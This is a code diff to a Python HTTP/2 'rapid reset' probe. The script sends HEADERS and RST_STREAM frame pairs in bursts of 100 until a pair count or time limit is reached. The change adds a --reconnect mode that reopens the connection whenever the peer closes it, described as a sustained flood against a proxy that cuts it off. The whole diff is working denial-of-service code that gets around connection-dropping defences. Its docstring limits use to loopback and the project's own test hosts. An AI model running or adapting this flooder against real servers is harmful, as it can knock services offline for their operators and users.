@@ -5,7 +5,10 @@ fast as it can, up to --pairs or --seconds. Prints how many pairs went out
 before the peer closed the connection. For loopback and the project's own test
 hosts only.
 
-  rapid_reset_probe.py HOST:PORT [--pairs N] [--seconds S]
+  rapid_reset_probe.py HOST:PORT [--pairs N] [--seconds S] [--reconnect]
+
+With --reconnect it opens a new connection each time the peer closes one, for
+the whole --seconds (a sustained flood against a proxy that cuts it off).
 """
 import argparse
 import socket
@@ -29,20 +32,15 @@ def headers_block():
     return block
 
 
-def main():
-    parser = argparse.ArgumentParser()
-    parser.add_argument("target")
-    parser.add_argument("--pairs", type=int, default=40000)
-    parser.add_argument("--seconds", type=float, default=10)
-    args = parser.parse_args()
-    host, port = args.target.rsplit(":", 1)
+def flood(host, port, pairs, end):
+    """Writes pairs on one connection until `pairs`, `end` or the peer's close;
+    returns (pairs written, whether the peer closed)."""
     sock = socket.create_connection((host, int(port)), timeout=5)
-    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
     block = headers_block()
     sent, stream = 0, 1
-    end = time.monotonic() + args.seconds
     try:
-        while sent < args.pairs and time.monotonic() < end:
+        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+        while sent < pairs and time.monotonic() < end:
             burst = b""
             for _ in range(100):
                 burst += frame(1, 0x4, stream, block) + \
@@ -50,10 +48,32 @@ def main():
                 stream += 2
             sock.sendall(burst)
             sent += 100
-    except OSError as error:
-        print(f"connection closed by the peer after {sent} pairs ({error})")
-        return
-    print(f"{sent} pairs written")
+    except OSError:
+        return sent, True
+    finally:
+        sock.close()
+    return sent, False
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("target")
+    parser.add_argument("--pairs", type=int, default=40000)
+    parser.add_argument("--seconds", type=float, default=10)
+    parser.add_argument("--reconnect", action="store_true")
+    args = parser.parse_args()
+    host, port = args.target.rsplit(":", 1)
+    end = time.monotonic() + args.seconds
+    total, connections = 0, 0
+    while True:
+        sent, closed = flood(host, port, args.pairs - total, end)
+        total += sent
+        connections += 1
+        if not closed or not args.reconnect or total >= args.pairs or \
+                time.monotonic() >= end:
+            break
+    how = "closed by the peer" if closed else "written"
+    print(f"{total} pairs on {connections} connection(s), the last {how}")
 
 
 if __name__ == "__main__":
